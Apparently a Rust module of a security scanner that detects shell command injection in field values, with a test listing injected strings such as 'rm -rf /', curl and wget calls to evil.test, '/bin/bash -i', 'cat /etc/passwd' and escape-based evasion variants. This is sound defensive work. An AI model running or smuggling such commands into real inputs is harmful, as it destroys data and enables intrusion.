//! Shell syntax in a value that is no command: `report.txt; rm -rf /`, `$(curl …)`, `` `id` ``.
//!
//! A mark of the shell alone is nothing (`R&D; sales`): a command must follow it, and commands that are English words
//! as well (`cat`, `find`) must have an argument that only a shell would read.

use super::lexer;
use super::program::unwrap;
use super::text::{Marks, Text};
use crate::contract::Finding;
use crate::contract::codes::danger::SHELL_INJECTION;
use crate::localized;
use rustc_hash::FxHashMap;
use std::sync::LazyLock;

/// The finding on a value that would run a command.
pub(crate) fn find(text: &Text<'_>) -> Option<Finding> {
    if !text.marks.any(Marks::SHELL) || !text.is_plain() || !carries_command(text.text) {
        return None;
    }
    let value = text.quote();
    let evidence = localized!(text.language, "`{value}` carries a shell command", "`{value}` 夹带了 shell 命令");
    Some(text.finding(&SHELL_INJECTION, evidence))
}

/// Whether a command follows a mark of the shell.
fn carries_command(text: &str) -> bool {
    let mut last = '\0';
    for (at, c) in text.char_indices() {
        let after = text.get(at + c.len_utf8()..).unwrap_or_default();
        let starts = match c {
            ';' | '|' | '\n' => is_command(after),
            '&' => last == '&' && is_command(after),
            '(' => last == '$' && is_substituted(after, ')'),
            '`' => is_substituted(after, '`'),
            _ => false,
        };
        if starts {
            return true;
        }
        last = c;
    }
    false
}

/// A command between `$(` and `)` or between backticks.
fn is_substituted(text: &str, end: char) -> bool {
    text.split_once(end).is_some_and(|(inside, _)| {
        let word = inside.split_whitespace().next().unwrap_or_default();
        COMMANDS.contains_key(word) || word.starts_with("/bin/") || word.starts_with("/usr/bin/")
    })
}

/// Whether a text begins with a command and, where its name is a word too, with an argument for it.
fn is_command(text: &str) -> bool {
    // A name in quotes or behind an escape is read as the shell reads it: `\rm`, `r''m`, `rm${IFS}-rf`.
    let first = text.split_whitespace().next().unwrap_or_default();
    if first.contains(['\\', '\'', '"', '$', '{']) {
        let begin = text.get(..text.floor_char_boundary(MAX_READ)).unwrap_or(text);
        let words = lexer::read(begin).commands.into_iter().next().map(|command| command.words).unwrap_or_default();
        let words: Vec<String> = unwrap(&words).iter().map(|word| word.text.clone()).collect();
        return is_plain_command(&words.join(" "));
    }
    is_plain_command(text)
}

fn is_plain_command(text: &str) -> bool {
    let mut words = text.split_whitespace();
    let first = words.next().unwrap_or_default();
    let name = first.rsplit('/').next().unwrap_or(first).trim_end_matches([';', '|', '&']);
    let next = words.next();
    match COMMANDS.get(name) {
        Some(Kind::Sure) => true,
        Some(Kind::Word) => next.is_some_and(|next| next.starts_with(['-', '/', '~', '$', '.'])),
        Some(Kind::Last) => next.is_none() || next.is_some_and(|next| next.starts_with([';', '|', '&', '#', '>'])),
        None => first.starts_with("/bin/") || first.starts_with("/usr/bin/"),
    }
}

#[derive(Debug, Clone, Copy)]
enum Kind {
    /// The name alone is enough.
    Sure,
    /// An English word: an argument must follow.
    Word,
    /// A short word: nothing may follow.
    Last,
}

/// Builds the tables of this module.
pub(crate) fn build_tables() {
    LazyLock::force(&COMMANDS);
}

static COMMANDS: LazyLock<FxHashMap<&'static str, Kind>> = LazyLock::new(|| {
    let lines = LIST.lines().filter(|line| !line.starts_with('#'));
    let pairs = lines.filter_map(|line| line.split_once('\t'));
    pairs
        .map(|(name, kind)| match kind {
            "word" => (name, Kind::Word),
            "last" => (name, Kind::Last),
            _ => (name, Kind::Sure),
        })
        .collect()
});

/// So much of a text is read as a command line.
const MAX_READ: usize = 400;
const LIST: &str = include_str!("../data/commands.txt");

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_after_marks_are_found() {
        // CALL-6
        for bad in [
            "report.txt; rm -rf /",
            "x && curl http://evil.test/a",
            "a | sh",
            "$(whoami)",
            "`id`",
            "a; cat /etc/passwd",
            "8.8.8.8; ls",
            "name\nwget http://evil.test",
            "x;id",
            "x || /bin/bash -i",
            "$(cat /flag)",
            r"report.txt; \rm -rf /",
            "report.txt; r''m -rf /",
            "report.txt;rm${IFS}-rf${IFS}/",
            "x | \"ba\"sh",
        ] {
            assert!(carries_command(bad), "{bad}");
        }
        for good in [
            "Tom; cat and dog",
            "R&D; sales",
            "AT&T",
            "a | b",
            "price $(USD)",
            "$5 & more",
            "use `name` here",
            "Smith; find me",
            "A;B;C",
            "Jack & Jill",
            "Q&A && FAQ",
            "rock; sort of",
            "x; id card",
            "Tom; 'cat' and dog",
            "size; \"large\" box",
            "cost; $5 each",
        ] {
            assert!(!carries_command(good), "{good}");
        }
    }
}
